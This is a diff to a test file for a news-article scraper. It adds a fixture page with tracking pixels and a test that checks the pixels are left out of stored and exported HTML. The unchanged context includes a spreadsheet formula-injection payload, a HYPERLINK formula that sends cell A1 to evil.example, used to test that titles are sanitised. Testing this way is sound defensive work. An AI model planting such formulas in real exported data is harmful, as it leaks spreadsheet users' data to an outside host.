@@ -81,6 +81,16 @@ def blank_page(slug: str) -> bytes:
     return page.encode()
 
 
+def pixel_page(slug: str) -> bytes:
+    """An article whose photo sits beside tracking pixels of another host (declared one pixel by attribute or style)
+    and a pixel-sized lazy-loading placeholder."""
+    pixels = ("<img src='https://tracker.example/p.gif' width='1' height='1' alt=''>"
+              "<figure><img src='//tracker.example/q.gif' style='width:0;height:0'></figure>"
+              "<figure><img src='/photo.jpg' width='800'><figcaption>Фото ГЭС</figcaption></figure>"
+              "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' data-src='/lazy.jpg' width='1' height='1'>")
+    return article(slug).replace(f"<p>{PARAGRAPHS[1]}", f"{pixels}<p>{PARAGRAPHS[1]}").encode()
+
+
 # Titles Excel, LibreOffice and Google Sheets would run as formulas: by slug.
 FORMULAS = {
     "formula-equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Совещание по энергетике")',
@@ -90,6 +100,7 @@ FORMULAS = {
 }
 PAGES = {"escape-codes": escape_page("escape-codes"), "bidi-spoof": spoof_page("bidi-spoof"),
          "plain-page": article("plain-page").encode(), "blank-fillers": blank_page("blank-fillers"),
+         "tracking-pixels": pixel_page("tracking-pixels"),
          **{slug: article(slug, title=title).encode() for slug, title in FORMULAS.items()}}
 
 STORED = set(PAGES) - {"blank-fillers"}  # the slugs stored: a page of blank letters has no title
@@ -192,6 +203,14 @@ def test_scrapy_articles_prints_no_escape_sequence_to_the_terminal(crawled: Craw
 
 def slug_of(url: str) -> str:
     return url.rstrip("/").rsplit("/", 1)[1]
+
+
+def test_no_tracking_pixel_is_stored(crawled: Crawled) -> None:
+    images = [image["url"] for image in crawled.records()["tracking-pixels"]["images"]]
+    assert images == [f"https://{DOMAIN}/photo.jpg", f"https://{DOMAIN}/lazy.jpg"]
+    exported = map(json.loads, crawled.command("export", "--with-html").stdout.splitlines())
+    html = next(r["html"] for r in exported if slug_of(r["url"]) == "tracking-pixels")
+    assert "/photo.jpg" in html and "/lazy.jpg" in html and "tracker.example" not in html
 
 
 def test_stored_titles_are_the_pages_own(crawled: Crawled) -> None:
